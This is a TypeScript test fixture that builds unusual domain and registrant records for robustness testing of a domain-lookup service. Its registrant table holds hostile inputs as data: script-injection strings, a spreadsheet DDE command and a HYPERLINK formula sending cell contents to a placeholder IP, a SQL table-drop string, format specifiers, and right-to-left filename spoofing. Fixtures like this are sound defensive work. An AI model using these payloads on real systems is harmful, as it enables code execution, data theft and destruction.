// Odd domains: names and texts that break careless software. Each is valid data that the services could send.

import { ipv4 } from './addresses.ts';
import type { Making } from './campaign.ts';
import { emptyContact } from './owners.ts';
import { none } from './pool.ts';
import type { Row } from './row.ts';

export interface OddDomain {
  /** In Unicode. */
  readonly name: string;
  readonly change: (row: Row) => void;
}

const longText = 'Endless Name Holding and Trading Company of the Seven Valleys '.repeat(10).trim();

/** Registrant name, organisation, street. */
const registrants: readonly (readonly [string, string, string, string])[] = [
  ['obrien-quotes.com', `Sean O'Brien "The Boss"`, `O'Brien & Sons "Best" \\ Ltd`, `12 "Quoted" Lane, Apt 'B'`],
  ['markup-traders.net', '<b>Bold</b> Trader', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>'],
  ['spreadsheet-surprise.com', '=HYPERLINK("http://198.51.100.1/?x="&A1,"open")', '=1+1', "=cmd|' /C calc'!A0"],
  ['plus-minus-at.org', '+12025550143', '-2+3', '@SUM(A1:A9)'],
  ['tabs-and-lines.com', 'Tab\there', 'Line one\nLine two', 'Carriage\rReturn 5'],
  ['right-to-left.org', 'شركة النور للتجارة', 'مؤسسة الأفق', 'شارع الملك ٢٧'],
  ['override-mark.com', '\u202egnp.exe\u202c', 'Visible \u200b\u200bspaces', 'Zero\u200dwidth joiner 3'],
  ['hebrew-contact.com', 'דוד לוי', 'חברת "כוכב הצפון" בע"מ', 'רחוב הרצל 5'],
  ['emoji-street.io', 'Zoë 🦊 Fox', '🦄 Unicorn GmbH', 'Rue de l’Étoile 9 ½'],
  ['combining-accents.fr', 'Ame\u0301lie No\u0308el', 'Cafe\u0301 Lumie\u0300re', 'Alle\u0301e des Che\u0302nes 2'],
  ['cjk-holdings.com', '山田 太郎', '株式会社青い鳥', '東京都千代田区丸の内１−１'],
  ['literal-null.com', 'null', 'undefined', 'NaN'],
  ['json-text.com', '{"value":"x","count":1}', '[]', '""'],
  ['percent-signs.net', '100%25 Real', 'A%20B%00C', '%s %d %n'],
  ['sql-minded.com', "Robert'); DROP TABLE domains;--", '" OR ""="', '1; SELECT 1'],
  ['csv-breaker.com', 'Last, First', 'One;Two|Three', '"5, Comma ""Row"""'],
  ['markdown-links.org', '[click](http://198.51.100.9/)', '**bold** `code`', '| a | b |'],
  ['long-winded-registrant.com', 'A'.repeat(255), longText, `${'Very Long Street '.repeat(12)}1`],
  ['iris-detect-fanclub.com', 'iris-detect', 'pdns batch intel-investigate', 'adsense 1'],
];

const plainNames = [
  'bäckerei-nordlicht.de',
  'müller-schlüsseldienst.de',
  'café-lumière.fr',
  'español-rápido.es',
  'smörgås-hörnan.se',
  'северный-ветер.рф',
  'київ-кава.укр',
  'ελληνική-αγορά.gr',
  'مكتبة-النور.com',
  'חנות-ספרים.co.il',
  '旅路茶屋.jp',
  '青鸟书店.cn',
  '한빛상점.kr',
  'हिन्दी-पुस्तक.com',
  'straße-und-weg.de',
  'xn--a-name-that-is-plain.com',
  'a--double-hyphen.net',
  '4711-4712.com',
  'q7.io',
  'pаypоint-mixed.com',
  'аllcyrillic-looking.com',
  `${'abcdefghij-'.repeat(5)}longest8.com`,
  `${'x'.repeat(63)}.net`,
  'under-construction-since-1999.org',
];

/** Domains that cost nothing to look up, and the address that goes with them. */
const noCharge = ['example.com', 'domaintools.com', 'dnsdb.info'];
export const noChargeDomains: ReadonlySet<string> = new Set(noCharge);
export const noChargeAddress = ipv4(199, 30, 228, 112);

export function oddDomains({ pools, anchorDay }: Making): readonly OddDomain[] {
  const withOwner = registrants.map(([name, person, org, street], index): OddDomain => {
    const owner = pools.owners.add({
      ...emptyContact,
      name: person,
      org,
      street,
      city: 'Odd City',
      country: 'zz',
      phone: `9995550${100 + index}`,
      emails: index % 4 === 1 ? [] : [`"odd ${index}"@${name}`],
    });
    const title = pools.titles.add(`${person} — ${org}`);
    return {
      name,
      change(row) {
        row.owner = owner;
        row.tech = owner;
        row.title = title;
        row.response = 200;
      },
    };
  });
  return [
    ...withOwner,
    ...plainNames.map((name) => ({ name, change: () => undefined })),
    ...noCharge.map((name) => ({
      name,
      change: (row: Row) => void Object.assign(row, { address1: noChargeAddress, address2: none }),
    })),
    { name: 'all-empty.com', change: (row) => clear(row) },
    {
      name: 'all-empty-but-active.net',
      change: (row) => void Object.assign(clear(row), { address1: ipv4(198, 18, 9, 9) }),
    },
    { name: 'no-registrar.org', change: (row) => void Object.assign(row, { registrar: none, tech: row.owner }) },
    { name: 'expired-yesterday.com', change: (row) => void Object.assign(row, { expireDay: anchorDay - 1 }) },
    {
      name: 'only-ipv6.net',
      change: (row) =>
        void Object.assign(row, { address1: none, address2: none, address6: 0x1_0000_0000 + 0x1003_0042 }),
    },
  ];
}

function clear(row: Row): Row {
  const { firstSeen } = row;
  for (const name of Object.keys(row) as (keyof Row)[]) row[name] = none;
  row.firstSeen = firstSeen;
  row.response = 0;
  return row;
}
